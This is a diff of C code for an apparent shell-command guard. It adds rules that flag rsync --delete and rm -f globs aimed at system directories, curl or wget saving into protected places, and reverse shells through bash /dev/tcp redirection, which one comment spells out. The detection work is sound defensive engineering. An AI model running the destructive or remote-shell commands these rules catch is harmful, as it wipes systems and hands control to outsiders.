@@ -29,6 +29,9 @@ any_ruined(const struct call *call, uint32_t from)
 static uint32_t
 target_option(const struct call *call, uint32_t *skip)
 {
+	*skip = 0;
+	if (guard_is_program(call, "rsync") || guard_is_program(call, "scp"))
+		return 0;
 	for (uint32_t i = 1; i < call->count && !guard_is(call, i, "--"); i++) {
 		*skip = 0;
 		if ((guard_is(call, i, "-t") || guard_is(call, i, "--target-directory")) && i + 1 < call->count)
@@ -99,6 +102,15 @@ is_fed_ruined(const struct call *call, bool recursive)
 	return recursive && guard_kind(&feeder) == TOOL_ECHO && any_ruined(&feeder, 1);
 }
 
+/* rsync --delete: what its target holds and its source does not goes. */
+static bool
+empties(const struct call *call)
+{
+	enum guard_place place = call->count < 3 ? PLACE_OTHER : guard_place(call, &call->word[call->count - 1]);
+
+	return place == PLACE_SYSTEM || place == PLACE_ROOT || place == PLACE_BELOW;
+}
+
 static bool
 rule_delete(const struct call *call)
 {
@@ -108,6 +120,8 @@ rule_delete(const struct call *call)
 	case TOOL_REMOVE:
 		return (recursive && any_ruined(call, 1)) || (call->xargs && is_fed_ruined(call, recursive));
 	case TOOL_COPY:
+		if (guard_is_program(call, "rsync"))
+			return guard_has_option(call, 0, "delete") && empties(call);
 		return guard_is_program(call, "mv") && moves_from(call, PLACE_SYSTEM, PLACE_ROOT);
 	case TOOL_FIND:
 		return finds_ruined(call, false);
@@ -151,6 +165,36 @@ copies(const struct call *call, enum guard_place place)
 	/* into a directory of system files, or onto one */
 	return is_rest_at(call, target, skip, place) ||
 	    (place == PLACE_BELOW && guard_is_literal(call, target) && guard_holds_system(guard_text(call, target) + skip));
+}
+
+/* Every file of a directory of system files: rm -f followed by /etc and a star. */
+static bool
+is_all_of_system(const struct call *call, uint32_t number)
+{
+	const char *text = guard_text(call, number), *slash = strrchr(text, '/');
+
+	if (slash == NULL || slash == text || slash[1] != '*' || guard_place(call, &call->word[number]) != PLACE_SYSTEM)
+		return false;
+	AB_AUTO_FREE char *dir = ab_strndup(text, (size_t)(slash - text));
+	return guard_holds_system(dir);
+}
+
+/* curl -o FILE, wget -O FILE, -qO FILE, --output=FILE */
+static bool
+saves(const struct call *call, enum guard_place place)
+{
+	for (uint32_t i = 1; i < call->count; i++) {
+		const char *text = guard_text(call, i), *equals = strchr(text, '=');
+		if (!guard_is_option(call, i))
+			continue;
+		bool named = strncmp(text, "--output", 8) == 0;
+		if (named && equals != NULL && is_rest_at(call, i, (uint32_t)(equals + 1 - text), place))
+			return true;
+		bool cluster = text[1] != '-' && strchr("oO", text[strlen(text) - 1]) != NULL;
+		if (((named && equals == NULL) || cluster) && i + 1 < call->count && guard_place(call, &call->word[i + 1]) == place)
+			return true;
+	}
+	return false;
 }
 
 /* perl -i, -pi, -i.bak; ruby has it from there */
@@ -202,9 +246,11 @@ guard_writes(const struct call *call, enum guard_place place)
 	case TOOL_REMOVE:
 	case TOOL_MODE:
 		for (uint32_t i = 1; i < call->count && place == PLACE_BELOW; i++)
-			if (!guard_is_option(call, i) && guard_place(call, &call->word[i]) == place)
+			if (!guard_is_option(call, i) && (guard_place(call, &call->word[i]) == place || is_all_of_system(call, i)))
 				return true;
 		return false;
+	case TOOL_DOWNLOAD:
+		return saves(call, place);
 	case TOOL_DD:
 		for (uint32_t i = 1; i < call->count; i++) {
 			if (strncmp(guard_text(call, i), "of=", 3) == 0 && is_rest_at(call, i, 3, place))
@@ -290,6 +336,22 @@ reads_foreign(const struct call *call)
 	return false;
 }
 
+/* bash -i >&/dev/tcp/HOST/PORT: somebody else types. bash(1), REDIRECTION. */
+static bool
+talks_to_host(const struct call *call)
+{
+	const struct ab_shell_command *command = call->command;
+	const struct ab_shell *shell = call->judge->shell;
+
+	for (uint32_t i = 0; i < command->other_count; i++) {
+		const struct ab_shell_word *word = &shell->word[command->word + command->word_count + i];
+		const char *text = shell->text.data + word->text;
+		if ((word->role == AB_SHELL_READ || word->role == AB_SHELL_WRITE) && (strncmp(text, "/dev/tcp/", 9) == 0 || strncmp(text, "/dev/udp/", 9) == 0))
+			return true;
+	}
+	return false;
+}
+
 /* Whether a word's text begins with the output of such a command: as a program it would run first. */
 static bool
 begins_foreign(const struct call *call, uint32_t number)
@@ -334,7 +396,7 @@ rule_remote_code(const struct call *call)
 	case TOOL_SHELL:
 	case TOOL_INTERPRETER:
 		if (guard_reads_program(call, &text))
-			return reads_foreign(call);
+			return reads_foreign(call) || talks_to_host(call);
 		if (text > 0 && (begins_foreign(call, text) || (call->xargs && begins_replaced(call, text) && reads_foreign(call))))
 			return true;
 		/* bash -c: xargs gives the text */
